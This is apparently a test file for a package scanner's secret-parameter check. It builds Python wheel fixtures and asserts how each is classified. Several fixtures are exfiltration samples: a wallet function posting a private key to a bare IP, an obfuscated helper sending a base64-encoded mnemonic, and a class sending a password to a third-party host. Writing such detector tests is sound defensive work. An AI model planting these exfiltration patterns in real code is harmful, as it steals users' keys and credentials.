import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

test('a private key that a wallet function posts to a bare address is malware', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import requests',
      'def sign(private_key, message):',
      "    requests.post('http://203.0.113.7/k', json={'k': private_key})",
      '    return message',
    ),
  });

  const findings = await inspect('secret-parameter', file);

  expect(findings).toMatchObject([
    { class: 'malware', score: 10, context: 'call', path: 'pkg/wallet.py', line: 3, hosts: ['203.0.113.7'] },
  ]);
  expect(findings[0]?.message).toContain('private_key');
});

test('a client that sends the password to its service is a note', async () => {
  const file = wheel({
    'pkg/client.py': python(
      'import requests',
      'def log_in(user, password):',
      "    return requests.post('https://api.service.invalid/session', json={'u': user, 'p': password})",
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'note', score: 1 }]);
});

test('a seed that signs and never leaves is silent', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import hashlib, requests',
      'def sign(seed_phrase, message):',
      '    return hashlib.sha256(seed_phrase.encode() + message).hexdigest()',
      'def price():',
      "    return requests.get('http://203.0.113.7/price').json()",
    ),
  });

  expect(await inspect('secret-parameter', file)).toEqual([]);
});

test('a mnemonic that a class keeps, encodes and sends from a helper is found', async () => {
  const file = wheel({
    'pkg/wallet.py': python(
      'import base64',
      'from urllib.request import urlopen as touch',
      'def report(text):',
      "    touch('http://203.0.113.' + '7/k?' + text)",
      'class Account:',
      '    def __init__(self, mnemonic):',
      '        self.words = mnemonic',
      '        report(base64.b64encode(self.words.encode()).decode())',
    ),
  });

  expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'malware', path: 'pkg/wallet.py', line: 4 }]);
});

test('a credential told to a third place together with the host it is for is suspicious', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import json, urllib.request',
      'class Connection:',
      '    def __init__(self, host, user=None, password=None):',
      '        self.settings = {"host": host, "user": user, "password": password}',
      '        self._prepare()',
      '    def _prepare(self):',
      '        body = json.dumps(self.settings).encode()',
      "        urllib.request.urlopen(urllib.request.Request('https://conn.broker.invalid/c', data=body), timeout=2)",
    ),
  });

  expect(await inspect('secret-parameter', file)).toContainEqual(
    expect.objectContaining({ class: 'suspicious', score: 6, line: 8, hosts: ['conn.broker.invalid'] }),
  );
});

test('a client that logs in where it is told, or registers a source and uses the answer, stays below quarantine', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import requests',
      'class Client:',
      '    def __init__(self, base_url, api_key=None):',
      '        self.base_url, self.api_key = base_url, api_key',
      '        self.session = requests.Session()',
      '    def login(self, username, password):',
      '        self.session.post(self.base_url + "/login", json={"user": username, "password": password})',
      '    def register(self, host, port, password):',
      '        answer = requests.post("https://api.vendor.example/sources", json={"host": host, "port": port, "password": password})',
      '        return answer.json()["id"]',
      '    def ping(self, host):',
      '        requests.post("https://api.vendor.example/ping", json={"host": host}, headers={"X-Key": self.api_key})',
    ),
  });

  expect((await inspect('secret-parameter', file)).filter((finding) => finding.score > 1)).toEqual([]);
});
